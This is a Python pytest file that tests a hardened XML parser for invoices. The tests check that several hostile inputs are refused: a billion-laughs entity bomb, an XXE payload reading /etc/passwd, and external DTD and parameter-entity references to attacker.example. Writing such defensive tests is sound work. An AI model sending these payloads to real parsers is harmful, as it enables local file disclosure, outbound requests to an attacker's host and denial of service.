import codecs
from decimal import Decimal

import pytest
from lxml import etree

from models.errors import PermanentError
from workers.readers.xml_safety import XmlReader, parse_xml_safely

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<Invoice>&lol9;</Invoice>"""

XXE = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE Invoice [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<Invoice><Note>&secret;</Note></Invoice>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!-- a comment first must not hide it -->
<!DOCTYPE Invoice SYSTEM "http://attacker.example/invoice.dtd">
<Invoice/>"""

PARAMETER_ENTITY = b"""<!DOCTYPE Invoice [<!ENTITY % remote SYSTEM "http://attacker.example/x">
%remote;]><Invoice/>"""


def _refused(data: bytes, **kwargs: int) -> PermanentError:
    with pytest.raises(PermanentError) as raised:
        parse_xml_safely(data, **kwargs)
    return raised.value


def test_billion_laughs_is_refused_before_any_expansion():
    # given nested entities that would expand to a billion "lol"s
    # when parsed, then it is refused, naming what was found
    error = _refused(BILLION_LAUGHS)
    assert error.code == "xml_forbidden_construct"
    assert "DOCTYPE" in error.message
    assert "ENTITY" in error.message


def test_an_external_entity_pointing_at_a_local_file_is_refused():
    # given the classic XXE reading /etc/passwd
    error = _refused(XXE)
    # then it is refused as an external entity, and nothing of the file is in the message
    assert error.code == "xml_forbidden_construct"
    assert "external entity" in error.message
    assert "root:" not in error.message


def test_an_external_dtd_is_refused_even_after_a_comment():
    error = _refused(EXTERNAL_DTD)
    assert error.code == "xml_forbidden_construct"
    assert "external DTD" in error.message


def test_a_parameter_entity_is_refused():
    assert _refused(PARAMETER_ENTITY).code == "xml_forbidden_construct"


def test_a_doctype_in_utf16_is_caught_after_parsing():
    # given an XXE the byte-level prolog scan cannot read (UTF-16 with BOM)
    data = XXE.decode().replace("UTF-8", "UTF-16").encode("utf-16")
    # then the check on the parsed document refuses it all the same
    error = _refused(data)
    assert error.code == "xml_forbidden_construct"
    assert "ENTITY" in error.message


def test_doctype_text_inside_a_comment_or_cdata_is_not_a_declaration():
    root = parse_xml_safely(
        b"<!-- <!DOCTYPE x> --><a><![CDATA[<!DOCTYPE y [<!ENTITY z 'z'>]>]]></a>"
    )
    assert root.text == "<!DOCTYPE y [<!ENTITY z 'z'>]>"


@pytest.mark.parametrize(
    "data",
    [b"<Invoice><ID>1</Invoice>", b"", b"not xml at all", b"<?xml version='1.0'?>"],
    ids=["mismatched-tags", "empty", "text", "declaration-only"],
)
def test_malformed_xml_is_unreadable(data):
    assert _refused(data).code == "unreadable_xml"


def test_a_document_over_the_limit_is_refused_before_parsing():
    error = _refused(b"<a>" + b"x" * 100 + b"</a>", max_bytes=50)
    assert error.code == "xml_too_large"
    assert "50" in error.message


def test_a_utf8_bom_and_encoding_declaration_are_honoured():
    data = codecs.BOM_UTF8 + '<?xml version="1.0" encoding="UTF-8"?><a>Bø</a>'.encode()
    assert parse_xml_safely(data).text == "Bø"


def test_a_latin1_declaration_decodes_nordic_letters():
    data = '<?xml version="1.0" encoding="ISO-8859-1"?><a>Kjøpmannsgata æ å</a>'.encode("latin-1")
    assert parse_xml_safely(data).text == "Kjøpmannsgata æ å"


def test_whitespace_before_the_declaration_is_tolerated():
    assert parse_xml_safely(b'\r\n  <?xml version="1.0"?><a/>').tag == "a"


def test_the_parser_returns_plain_elements():
    root = parse_xml_safely(b'<a xmlns="urn:x"><b>1</b></a>')
    assert isinstance(root, etree._Element)
    assert root.tag == "{urn:x}a"


@pytest.mark.parametrize(
    ("text", "expected"),
    [("1436.50", "1436.50"), (" -25 ", "-25"), ("+3.", "3"), (".5", "0.5"), ("0", "0")],
)
def test_decimals_are_read_exactly(text, expected):
    reader = XmlReader({})
    root = etree.fromstring(f"<a><v>{text}</v></a>".encode())
    value = reader.amount(root, "v")
    assert value == Decimal(expected)
    assert str(value) == expected  # scale kept: 1436.50 stays 1436.50
    assert reader.notes == []


@pytest.mark.parametrize("text", ["1,50", "1 000.00", "1E3", "NaN", "Infinity", "12.5 NOK"])
def test_a_non_decimal_amount_is_left_empty_with_a_note_naming_the_element(text):
    # given an amount xsd:decimal does not allow
    reader = XmlReader({})
    root = etree.fromstring(f"<Invoice><Total><Payable>{text}</Payable></Total></Invoice>".encode())
    # when read, then it is None (never a guess) and the note says where and what
    assert reader.amount(root, "Total/Payable") is None
    assert len(reader.notes) == 1
    assert "/Invoice/Total/Payable" in reader.notes[0]
    assert repr(text) in reader.notes[0]


def test_an_empty_amount_is_none_without_a_note():
    reader = XmlReader({})
    assert reader.amount(etree.fromstring(b"<a><v>  </v></a>"), "v") is None
    assert reader.notes == []


def test_an_embedded_file_over_libxml2s_default_10_mb_node_limit_is_read():
    # given an embedded scan whose base64 text is over libxml2's default 10 MB node limit
    data = b"<Invoice><Blob>" + b"QUFB" * 2_600_000 + b"</Blob></Invoice>"
    # then it is parsed: real EHF invoices carry scans that large
    assert len(parse_xml_safely(data).findtext("Blob")) == 10_400_000


def test_absurdly_deep_nesting_is_refused_quickly_as_too_large():
    depth = 100_000
    assert _refused(b"<a>" * depth + b"</a>" * depth).code == "xml_too_large"
